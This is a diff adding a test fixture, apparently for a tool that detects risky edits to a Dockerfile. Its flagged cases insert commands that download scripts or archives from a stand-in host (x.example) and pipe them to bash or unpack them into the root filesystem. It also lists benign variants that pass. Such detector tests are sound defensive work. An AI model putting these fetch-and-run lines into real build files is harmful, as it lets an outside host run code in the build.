@@ -318,4 +318,24 @@ spec:
       ["'test'", "'tests'"],
     ],
   },
+  scripts: {
+    path: "tools/Dockerfile",
+    before: `FROM python:3.12
+RUN apt-get update && \\
+    apt-get install -y make
+RUN curl -sSL https://x.example/1.0.0/old.sh | sh
+`,
+    gains: [
+      ["-y make", "-y make && \\\n    curl -sSL https://x.example/i.sh | bash", ["program 2"]],
+      ["RUN apt-get update", 'RUN bash -c "$(wget -qO- https://x.example/i.sh)" && apt-get update', ["program 2"]],
+      ["-y make", "-y make\nRUN wget -O - https://x.example/a.tgz | tar xz -C /", ["program 4"]],
+    ],
+    passes: [
+      ["1.0.0", "1.2.0"],
+      ["-y make", "-y make\n# curl https://x.example/i.sh | sh"],
+      ["-y make", '-y make\nRUN echo "curl https://x.example/i.sh | sh"'],
+      ["-y make", "-y make\nRUN curl -s http://localhost:80/i.sh | sh"],
+      ["-y make", "-y make\nRUN git clone https://x.example/a && docker run a"],
+    ],
+  },
 };
